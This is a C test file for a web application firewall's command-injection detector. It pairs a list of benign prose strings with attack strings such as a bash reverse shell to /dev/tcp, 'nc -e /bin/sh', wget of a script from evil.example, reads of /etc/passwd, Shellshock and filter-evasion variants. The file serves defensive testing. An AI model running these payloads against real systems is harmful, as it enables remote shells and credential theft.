/*
 * Command injection detector: commands after separators and inside
 * substitutions, quote/backslash/glob evasion, cmd.exe and PowerShell
 * forms; prose with ; | & and Markdown tables pass.
 */
#include "test.h"

#include "waf/waf_int.h"

#define DETECT rp__waf_cmdi
#define PREFIX "cmdi"
#include "waf/detector_test.h"

static const tcase_t attacks[] = {
    { "; cat /etc/passwd", 80, "separator" },
    { ";cat /etc/passwd", 80, NULL },
    { "1;id", 60, NULL },
    { "1; id", 60, NULL },
    { "x | id", 60, NULL },
    { "foo && whoami", 90, "whoami" },
    { "foo || whoami", 90, NULL },
    { "foo\nwhoami", 85, NULL },
    { "`id`", 90, NULL },
    { "a`whoami`b", 90, NULL },
    { "$(id)", 65, NULL },
    { "$(whoami$())", 65, NULL },
    { "echo $(cat /etc/passwd)", 65, NULL },
    { "x;c''at /etc/passwd", 80, NULL },
    { "c''at /etc/passwd", 75, "cat" },
    { "c\\at /etc/passwd", 75, "cat" },
    { "c\"a\"t /etc/passwd", 75, NULL },
    { "/?""?""?/c?t /etc/passwd", 75, "cat" },
    { "/bi[n]/ba[s]h -c id", 75, NULL },
    { "cat${IFS}/etc/passwd", 85, "IFS" },
    { "x;cat$IFS/etc/passwd", 85, NULL },
    { "/bin/sh -c id", 75, "binary" },
    { "/usr/bin/python3 -m http.server", 75, NULL },
    { "() { :;}; /bin/bash -c id", 95, "Shellshock" },
    { "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", 90, NULL },
    { "nc -e /bin/sh 10.0.0.1 4444", 70, NULL },
    { "wget http://evil.example/x.sh", 70, NULL },
    { ";wget http://evil.example/x.sh -O /tmp/x", 90, NULL },
    { "time sh -c whoami", 75, NULL },
    { "ti''me sh -c whoami", 75, NULL },
    { "& dir", 60, NULL },
    { "& dir c:\\", 80, NULL },
    { "| type c:\\windows\\win.ini", 80, NULL },
    { "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", 70, NULL },
    { "Invoke-WebRequest http://example.com/x.ps1", 70, NULL },
    { ";iwr http://example.com/x.ps1", 90, NULL },
    { "for /f %i in ('whoami') do echo %i", 85, "FOR" },
    { "FOR %%G IN (a,b) DO echo %%G", 85, NULL },
    { "if exist c:\\boot.ini echo yes", 75, "IF" },
    { "IF /I \"%var%\"==\"x\" ECHO found", 75, NULL },
    { "alias a=curl", 75, "alias" },
    { "$SHELL -c \"echo hi\"", 80, NULL },
    { "{,ifconfig}", 75, "brace" },
    { "c{a,oun}t /etc/passwd", 75, NULL },
    { "x=1;`cat<<<ifconfig`", 90, NULL },
    { "|$u wget test", 90, NULL },
    { "ls -la /", 70, NULL },
    { "whoami\n", 60, NULL },
    { "<(cat /etc/passwd)", 60, NULL },
    { "${PATH#{}/}", 55, NULL },
};

static const char *const benign[] = {
    "rock & roll; jazz | blues",
    "a && b are true",
    "| Name | Age |\n|------|-----|\n| Bob  | 42  |",
    "Tom & Jerry; more info",
    "Terms & conditions | Privacy",
    "Q&A; type your question below",
    "R&D; make it faster",
    "Ham & eggs; time for breakfast",
    "test & set",
    "Tom & Jerry | more",
    "find the best python tutorial",
    "grep this",
    "echo hello",
    "cat food",
    "time warner",
    "sort by date",
    "python",
    "ls",
    "The cat sat on the mat; the dog did not.",
    "If you have questions, call us",
    "if a == b: return",
    "if (a == b) { x(); }",
    "for i in range(10): print(i)",
    "50% off for members in (selected) stores",
    "Hello $name, your total is $12.50",
    "price: ${price}",
    "$(document).ready(function() {})",
    "**Note**: see the *docs*",
    "C:\\Users\\bob\\Documents\\report.docx",
    "/api/v1/users/42",
    "https://example.com/path?x=1&y=2",
    "user(id: $id) {\n  id\n  name\n}",
    "query {\n  id\n}",
    "We've updated our terms; read",
    "<b>(update)</b> the list",
    "2 < 3 && 4 > 1",
    "x >= 10 && y <= 20",
    "I love it :) (really)",
    "Email me at bob@example.com; thanks",
    "user_id=42&sort=desc",
    "shipping & handling: $5",
    "version 2.0.1 (beta)",
    "mom & dad",
    "Read more | Share | Report",
};

TEST(attacks)
{
    run_attacks(attacks, RP_ARRAY_SIZE(attacks));
}

TEST(benign)
{
    run_benign(benign, RP_ARRAY_SIZE(benign), RP_WAF_SRC_QUERY);
    run_benign(benign, RP_ARRAY_SIZE(benign), RP_WAF_SRC_BODY);
}

TEST(span_and_evidence)
{
    rp__waf_match_t m;
    const char *s = "abc; whoami";
    CHECK(det(s, strlen(s), RP_WAF_SRC_QUERY, 0, &m) >= 85);
    CHECK(m.off == 5 && m.len == 6);
    CHECK(strstr(m.evidence, "whoami") != NULL);
}

TEST(flags)
{
    rp__waf_match_t m;
    const char *s = "; cat /etc/passwd";
    CHECK(det(s, strlen(s), RP_WAF_SRC_BODY, RP_WAF_PT_NUMBER, &m) == 0);
    CHECK(det(s, strlen(s), RP_WAF_SRC_BODY, RP_WAF_PT_KEY, &m) >= 80);
    CHECK(det(NULL, 0, RP_WAF_SRC_BODY, 0, &m) == 0);
    /* nothing a command line needs */
    CHECK(score("whoamiwhoami") == 0);
    CHECK(score("whoami") == 0); /* a bare word: a user name as much as a command */
    CHECK(score("x") == 0);
}

TEST(pathological)
{
    run_pathological(";");
    run_pathological("; cat");
    run_pathological("$(");
    run_pathological("`id");
    run_pathological("for %a in (");
    run_pathological("if a==");
    run_pathological("${IFS}");
    run_pathological("c\\");
    run_pathological("[!");
}

TEST(tables_sorted)
{
    CHECK(rp__cmdi_tables_sorted());
    /* family names and versions still resolve through the binary search */
    CHECK(score("; python3.11 -c x") >= BLOCK);
    CHECK(score("| ansible-doc ping") >= BLOCK);
    CHECK(score("| aa-disable-x y") >= BLOCK);
}

int main(void)
{
    RUN(tables_sorted);
    RUN(attacks);
    RUN(benign);
    RUN(span_and_evidence);
    RUN(flags);
    RUN(pathological);
    TEST_MAIN_END();
}
